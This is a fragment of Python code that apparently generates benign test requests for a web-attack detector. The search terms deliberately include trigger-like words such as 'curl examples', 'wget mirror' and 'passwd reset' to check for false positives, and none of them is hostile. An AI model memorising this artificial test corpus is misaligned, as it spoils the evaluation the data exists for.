            "log4j upgrade", "ssh key", "sqlite shell", "curl examples", "wildcard dns", "history books",
            "alias name", "bash party", "passwd reset", "ping pong", "wget mirror", "eval period",
            "exec summary", "java island", "ruby wedding", "cat breeds", "node modules", "proto type",
            "system admin"]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(DOC_URLS, PROSE, prefix, n)
    for i, name in enumerate(NAMES):
        n += 1
        yield {**_json("/api/users", {"name": name, "email": f"user{i}@example.org"}),
               "id": f"{prefix}-name-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_get(_query("/api/users", [("q", name), ("page", "1")])),
               "id": f"{prefix}-name-{n:04d}", "category": "benign", "placement": "query"}
    for addr in ADDRESSES:
        n += 1
        yield {**_json("/api/users", {"name": "Ann", "address": addr}),
               "id": f"{prefix}-address-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**prose_request(addr), "id": f"{prefix}-address-{n:04d}", "category": "benign",
               "placement": "form"}
    for i, term in enumerate(SEARCHES):
        n += 1
        yield {**_get(_query("/api/users", [("q", term), ("page", str(1 + i % 3))])),
               "id": f"{prefix}-search-{n:04d}", "category": "benign", "placement": "query"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", term)]),
               "id": f"{prefix}-adminsearch-{n:04d}", "category": "benign", "placement": "form"}
        n += 1
        yield {**_get(_query("/api/users", [("search", term)])),
               "id": f"{prefix}-search-{n:04d}", "category": "benign", "placement": "query"}
